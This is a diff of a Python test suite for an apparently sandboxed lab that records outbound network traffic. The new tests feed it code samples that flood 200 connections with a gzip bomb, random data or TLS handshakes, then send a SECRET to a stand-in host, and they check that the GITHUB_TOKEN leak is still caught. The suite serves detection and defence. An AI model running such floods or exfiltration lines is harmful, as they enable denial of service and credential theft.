@@ -21,7 +21,7 @@ def get(url, data=None, method=None, **headers):
     request = urllib.request.Request(url, data, method=method)
     for name, value in headers.items():
         request.add_header(name.replace('_', '-'), value)
-    return urllib.request.urlopen(request, timeout=5).read()
+    return urllib.request.urlopen(request, timeout=20).read()
 """
 
 
@@ -257,3 +257,35 @@ async def test_nothing__is_said_by_a_box_that_says_nothing(lab: Lab) -> None:
     outcome = await run(lab, "import email")
     assert outcome.blobs["sinkhole"] == b""
     assert outcome.result.truncated == ()
+
+
+FLOODS = {
+    "bombs": """
+bomb = gzip.compress(bytes(40 << 20))
+socks = [socket.create_connection(('198.51.100.4', 1000 + n), 5) for n in range(200)]
+for sock in socks:
+    sock.sendall(bomb)
+""",
+    "packed nonsense": """
+data = base64.b64encode(os.urandom(40_000))
+socks = [socket.create_connection(('198.51.100.4', 1000 + n), 5) for n in range(200)]
+for sock in socks:
+    sock.sendall(data)
+""",
+    "handshakes": """
+context = ssl.create_default_context()
+for n in range(200):
+    with socket.create_connection(('198.51.100.4', 1000 + n), 5) as sock:
+        context.wrap_socket(sock, server_hostname=f'n{n}.invalid').sendall(b'x')
+""",
+}
+
+
+@pytest.mark.parametrize("name", sorted(FLOODS))
+async def test_flood__does_not_keep_the_sinkhole_from_its_last_words(lab: Lab, name: str) -> None:
+    last = "\nget('https://last.invalid/', SECRET.encode())\n"
+    talks = told(await run(lab, FLOODS[name] + last))
+
+    assert len(talks) == 201
+    (told_last,) = [talk for talk in talks if talk["sni"] == "last.invalid"]
+    assert told_last["what"] == {"GITHUB_TOKEN"}
